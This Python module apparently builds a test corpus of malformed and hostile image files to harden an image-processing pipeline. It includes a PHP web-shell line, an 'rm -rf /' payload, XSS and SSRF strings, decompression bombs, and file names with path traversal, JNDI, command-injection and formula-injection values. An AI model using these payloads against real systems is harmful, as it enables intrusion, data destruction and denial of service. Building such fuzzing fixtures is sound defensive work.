"""Files that mean harm, made at run time: several hundred, the same on every run."""

from __future__ import annotations

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image, PngImagePlugin, TiffImagePlugin

from tests.media.files import PLACE, SCRIPT, animation, long_gif, lying_png, picture, polyglots, told

KINDS = ("JPEG", "PNG", "GIF", "WEBP", "AVIF")
PAYLOADS = {
    "html": b"<html><script>alert(1)</script></html>",
    "php": b"<?php system($_GET['c']); ?>",
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
    "shell": b"\n#!/bin/sh\nrm -rf /\n",
}
Named = tuple[str, bytes]


def all_files() -> Iterator[Named]:
    """Make them one after the other: a name that says what is wrong, and the bytes."""
    for part in (cut, flipped, two_in_one, lying, bombs, frames, no_pictures, metadata, modes, coded, scans):
        yield from part()


def cut() -> Iterator[Named]:
    """End each kind too early, at many places."""
    for kind in KINDS:
        whole = picture(kind, (90, 70))
        for part in range(1, 17):
            yield f"{kind} cut at {part}/17", whole[: len(whole) * part // 17]
        yield f"{kind} without its last byte", whole[:-1]


def flipped() -> Iterator[Named]:
    """Turn bits over, some near the start where the headers are, some anywhere."""
    for kind in KINDS:
        whole = picture(kind, (90, 70))
        for seed in range(14):
            dice = random.Random(f"{kind} {seed}")
            broken = bytearray(whole)
            reach = 120 if seed % 2 else len(whole)
            for _turn in range(1 + seed // 2):
                broken[dice.randrange(4, min(reach, len(whole)))] ^= 1 << dice.randrange(8)
            yield f"{kind} with bits turned, {seed}", bytes(broken)


def two_in_one() -> Iterator[Named]:
    """Make files that are a picture and something else."""
    yield from polyglots().items()
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("index.html", PAYLOADS["html"])
    for kind in KINDS:
        whole = picture(kind, (60, 40))
        yield f"{kind} with a zip behind", whole + packed.getvalue()
        for name, payload in PAYLOADS.items():
            yield f"{kind} with {name} behind", whole + payload
            yield f"{name} with {kind} behind", payload + whole
    rows = b"".join(b"\0" + (PAYLOADS["php"] * 4)[:96] for _row in range(32))
    yield "PNG whose pixels are PHP", _png(32, 32, 2, rows, level=0)
    yield "GIF89a as the start of a script", b"GIF89a/*" + b"\0" * 6 + b"*/=1;alert(1);//"


def lying() -> Iterator[Named]:
    """Claim other sizes than there are."""
    for width, height in (
        (0, 0), (0, 9), (9, 0), (1, 2**31 - 1), (2**31 - 1, 1), (2**32 - 1, 2**32 - 1), (65_535, 65_535),
        (8_000, 5_000), (5_000, 8_000), (8_001, 1), (40_000_000, 1), (7_000, 5_714), (100, 100),
    ):  # fmt: skip
        yield f"PNG that claims {width}x{height}", lying_png(width, height)
    for side in (0, 1, 9_000, 20_000, 65_535):
        jpeg = bytearray(picture("JPEG", (90, 70)))
        place = jpeg.index(b"\xff\xc0") + 5
        jpeg[place : place + 4] = struct.pack(">HH", side, side)
        yield f"JPEG that claims {side}", bytes(jpeg)
        gif = bytearray(picture("GIF", (90, 70)))
        gif[6:10] = struct.pack("<HH", side, side)
        yield f"GIF that claims {side}", bytes(gif)
        avif = bytearray(picture("AVIF", (90, 70)))
        place = avif.index(b"ispe") + 8
        avif[place : place + 8] = struct.pack(">II", side, side)
        yield f"AVIF that claims {side}", bytes(avif)
    for width, height in ((1, 1), (9_000, 9_000), (16_384, 16_384), (16_777_216, 16_777_216)):
        webp = bytearray(animation("WEBP", 3))
        place = webp.index(b"VP8X") + 12
        webp[place : place + 6] = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
        yield f"WEBP that claims {width}x{height}", bytes(webp)


def bombs() -> Iterator[Named]:
    """Unpack to far more than they weigh."""
    packed = zlib.compress(b"\0" * 100_000_000, 9)
    sound = picture("PNG", (20, 20))
    for name, head in ((b"iCCP", b"x\0\0"), (b"zTXt", b"Comment\0\0"), (b"iTXt", b"Comment\0\1\0\0\0")):
        yield f"PNG with a {name.decode()} bomb", sound[:33] + _chunk(name, head + packed) + sound[33:]
    for name, head in ((b"zTXt", b"k%d\0\0"), (b"iTXt", b"k%d\0\1\0\0\0")):
        text = zlib.compress(b"\0" * 900_000, 9)
        many = b"".join(_chunk(name, head % number + text) for number in range(500))
        yield f"PNG with 500 {name.decode()} bombs", sound[:33] + many + sound[33:]
    yield "PNG with far more data than rows", _png(20, 20, 2, b"\0" * 50_000_000)
    yield "PNG of 40 megapixels of nothing", _png(8_000, 5_000, 2, b"\0" * (8_000 * 3 + 1) * 5_000)
    yield "PNG of 40 megapixels and 16 bits", _png(8_000, 5_000, 0, b"\0" * (8_000 * 2 + 1) * 5_000, bits=16)
    yield "PNG of a hundred thousand chunks", sound[:33] + _chunk(b"juNk", b"") * 100_000 + sound[33:]
    yield "WEBP of 20 megapixels", picture("WEBP", (5_000, 4_000), quality=10, method=0)
    yield "JPEG of 40 megapixels", picture("JPEG", (8_000, 5_000), quality=20)


def frames() -> Iterator[Named]:
    """Hold more frames than anyone would look at."""
    yield "GIF of 200 frames of 4 megapixels", long_gif(200)
    yield "GIF of 400,000 frames", long_gif(400_000)
    yield "GIF whose frames lie outside", long_gif(5).replace(b",\0\0\0\0", b",\xff\xff\xff\xff")
    yield "GIF without an end", long_gif(3)[:-1] + b"\x21\xfe" + b"\xff" * 5_000
    for kind in ("WEBP", "AVIF", "PNG", "GIF"):
        yield f"{kind} that moves", animation(kind, 12, (64, 48))
    moving = animation("PNG", 3)
    place = moving.index(b"acTL")
    for count in (0, 1, 2**31 - 1):
        body = b"acTL" + struct.pack(">II", count, 0)
        yield (
            f"PNG that claims {count} frames",
            moving[:place] + body + struct.pack(">I", zlib.crc32(body)) + moving[place + 16 :],
        )


def no_pictures() -> Iterator[Named]:
    """Be something else altogether, whatever the name says."""
    for name, payload in PAYLOADS.items():
        yield f"{name} named .jpg", payload
    svg = "<svg xmlns='http://www.w3.org/2000/svg'>{}</svg>"
    yield "SVG with a script", svg.format("<script>alert(1)</script>").encode()
    yield "SVG that fetches", svg.format("<image href='http://169.254.169.254/'/>").encode()
    yield (
        "SVG of entities",
        b"<!DOCTYPE s [<!ENTITY a 'aa'><!ENTITY b '&a;&a;'>]>" + svg.format("&b;").encode(),
    )
    for name, head in {
        "an ELF program": b"\x7fELF\2\1\1", "a Windows program": b"MZ\x90\0", "gzip": gzip.compress(b"x" * 99),
        "a WAV": b"RIFF\x24\0\0\0WAVEfmt ", "a HEIC": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "EPS": b"%!PS\n{} loop",
        "an MP4": b"\0\0\0\x18ftypmp42\0\0\0\0mp41mp42", "a PSD": b"8BPS\0\1" + b"\xff" * 40, "Java": b"\xca\xfe\xba\xbe",
        "a font": b"OTTO\0\x09", "one byte": b"\xff", "zeros": b"\0" * 4_096, "SQLite": b"SQLite format 3\0",
    }.items():  # fmt: skip
        yield name, head
    for kind in ("BMP", "TIFF", "ICO", "PPM", "TGA", "JPEG2000", "PCX", "SGI"):
        yield f"a {kind}", picture(kind, (30, 20))
    yield "TIFF whose directory leads to itself", b"II*\0\x08\0\0\0\x01\0" + b"\0" * 12 + b"\x08\0\0\0"
    for name, head in {
        "JPEG": b"\xff\xd8\xff", "PNG": b"\x89PNG\r\n\x1a\n", "GIF": b"GIF89a", "WEBP": b"RIFF\x10\0\0\0WEBP",
        "AVIF": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1",
    }.items():  # fmt: skip
        yield f"the start of a {name}", head
        yield f"the start of a {name} and zeros", head + b"\0" * 3_000
        for seed in range(3):
            yield (
                f"the start of a {name} and noise, {seed}",
                head + random.Random(f"{name}{seed}").randbytes(3_000),
            )


def metadata() -> Iterator[Named]:
    """Carry words beside the pixels, or what looks like them."""
    yield from told().items()
    place = Image.Exif()
    place[0x8825] = {1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 18.0), 29: PLACE.decode()}
    place[0x9286] = SCRIPT
    for kind in ("JPEG", "PNG", "WEBP", "AVIF"):
        yield f"{kind} that says where it was taken", picture(kind, exif=place)
        if kind != "AVIF":  # Pillow itself reads what it writes there
            yield f"{kind} with rubbish for EXIF", picture(kind, exif=b"Exif\0\0" + b"\xff" * 500)
            endless = b"Exif\0\0II*\0\x08\0\0\0\1\0" + b"\0" * 12 + b"\x08\0\0\0"
            yield f"{kind} whose EXIF leads to itself", picture(kind, exif=endless)
        yield f"{kind} with rubbish for colours", picture(kind, icc_profile=b"rubbish" * 300)
        lie = b"\0\0\x02\0none\x02\x10\0\0mntrRGB XYZ " + b"\0" * 104 + b"\xff\xff\xff\xff" + b"A2B0" * 200
        yield f"{kind} whose colours name four billion tables", picture(kind, icc_profile=lie)
    for turn in (0, 9, 255, 65_535):
        wrong = Image.Exif()
        wrong[0x0112] = turn
        yield f"JPEG turned by {turn}", picture("JPEG", exif=wrong)
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", SCRIPT.decode(), zip=True)
    yield "PNG with a packed script", picture("PNG", pnginfo=text)
    directory = TiffImagePlugin.ImageFileDirectory_v2()
    directory[270] = SCRIPT.decode()
    yield (
        "JPEG with a thumbnail that is a script",
        picture("JPEG", exif=b"Exif\0\0" + directory.tobytes() + SCRIPT * 50),
    )
    for marker in range(0xE2, 0xEF, 2):
        body = SCRIPT * 9
        segment = bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body
        yield f"JPEG with a script in segment {marker:x}", picture("JPEG")[:2] + segment + picture("JPEG")[2:]


def modes() -> Iterator[Named]:
    """Keep colours in every way there is, and sizes at the edges."""
    for mode in ("1", "L", "LA", "P", "RGB", "RGBA", "I;16"):
        yield f"PNG in {mode}", _in_mode(mode, "PNG")
    for mode in ("L", "RGB", "CMYK"):
        yield f"JPEG in {mode}", _in_mode(mode, "JPEG")
        yield f"progressive JPEG in {mode}", _in_mode(mode, "JPEG", progressive=True)
    for size in ((1, 1), (1, 8_000), (8_000, 1), (2, 7_999), (3_201, 3_200)):
        for kind in ("PNG", "JPEG", "WEBP"):
            yield f"{kind} of {size[0]}x{size[1]}", picture(kind, size)
    yield (
        "PNG whose palette is too short",
        _png(32, 32, 3, (b"\0" + b"\xff" * 32) * 32, more=_chunk(b"PLTE", b"\1\2\3")),
    )
    yield "PNG without a palette", _png(32, 32, 3, (b"\0" + b"\xff" * 32) * 32)
    yield "PNG with a wrong filter", _png(32, 32, 2, (b"\x09" + b"\xff" * 96) * 32)


def coded() -> Iterator[Named]:
    """Say that the pixels are coded in a way they are not."""
    for marker in (0xC1, 0xC3, 0xC5, 0xC9, 0xCA, 0xCB, 0xCF):
        yield (
            f"JPEG coded as {marker:x}",
            picture("JPEG", (90, 70)).replace(b"\xff\xc0", bytes((0xFF, marker)), 1),
        )
    for depth in (0, 1, 12, 16, 255):
        jpeg = bytearray(picture("JPEG", (90, 70)))
        jpeg[jpeg.index(b"\xff\xc0") + 4] = depth
        yield f"JPEG of {depth} bits", bytes(jpeg)
    for bits, colour in ((3, 0), (16, 3), (8, 1), (8, 7), (255, 255)):
        yield f"PNG of {bits} bits in colour {colour}", _png(32, 32, colour, b"\0" * 4_000, bits=bits)
    for depth in (0, 13, 200):
        gif = picture("GIF", (90, 70))
        start = gif.index(b"\x08\xff") if b"\x08\xff" in gif else gif.index(b",") + 10
        yield f"GIF coded from {depth} bits", gif[:start] + bytes((depth,)) + gif[start + 1 :]


def scans() -> Iterator[Named]:
    """Ask for the same pixels to be gone over again and again."""
    jpeg = picture("JPEG", (4_000, 4_000), progressive=True, quality=30)
    last = jpeg.rindex(b"\xff\xda")
    for count in (50, 2_000):
        yield f"JPEG of {count} more scans", jpeg[:-2] + jpeg[last:-2] * count + jpeg[-2:]


def starving(scans: int, size: tuple[int, int] = (6_000, 6_000)) -> bytes:
    """Make a small file that asks for the last, nearly empty scan of a large grey picture again and again."""
    written = io.BytesIO()
    Image.new("L", size, 128).save(written, "JPEG", progressive=True, quality=5)
    jpeg = written.getvalue()
    last = jpeg.rindex(b"\xff\xda")
    made = jpeg.count(b"\xff\xda")
    return jpeg[:-2] + jpeg[last:-2] * (scans - made) + jpeg[-2:]


def names() -> list[str]:
    """List names that somebody might give a file to lead us astray."""
    return [
        "../../../etc/passwd", "..\\..\\windows\\system32\\evil.jpg", "/etc/passwd", "C:\\boot.ini", "\\\\host\\x.png",
        "x.jpg\0.php", "x.php\0.jpg", "x.jpg\n.php", "\r\nSet-Cookie: a=b.jpg", "a" * 300 + ".jpg", "ä" * 200 + ".jpg",
        "con.jpg", "NUL", "aux.png", "com1.gif", ".htaccess", ".", "..", "", " ", "....//....//x", "%2e%2e%2fx.jpg",
        "%00.jpg", "x.jpg;.php", "x.jpg%20", "x.jpg.", "x.jpg::$DATA", "<script>alert(1)</script>.jpg",
        '"onerror=alert(1) x=".png', "'; DROP TABLE asset; --.jpg", "${jndi:ldap://x}.jpg", "{{7*7}}.png", "$(id).jpg",
        "`id`.jpg", "|id.jpg", "-rf.jpg", "~root/x.jpg", "\u202egpj.exe", "\ufeffx.jpg", "x\u2028y.jpg", "\ud800.jpg",
        "=cmd|'/c calc'!A0.jpg", "file:///etc/passwd", "http://169.254.169.254/x.jpg",
    ]  # fmt: skip


def _in_mode(mode: str, form: str, **options: object) -> bytes:
    image = (
        Image.new("I;16", (70, 50), 30_000)
        if mode == "I;16"
        else Image.new("RGB", (70, 50), "red").convert(mode)
    )
    written = io.BytesIO()
    image.save(written, form, **options)
    return written.getvalue()


def _png(
    width: int, height: int, colour: int, rows: bytes, bits: int = 8, level: int = 9, more: bytes = b""
) -> bytes:
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0))
    body = _chunk(b"IDAT", zlib.compress(rows, level)) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + header + more + body


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
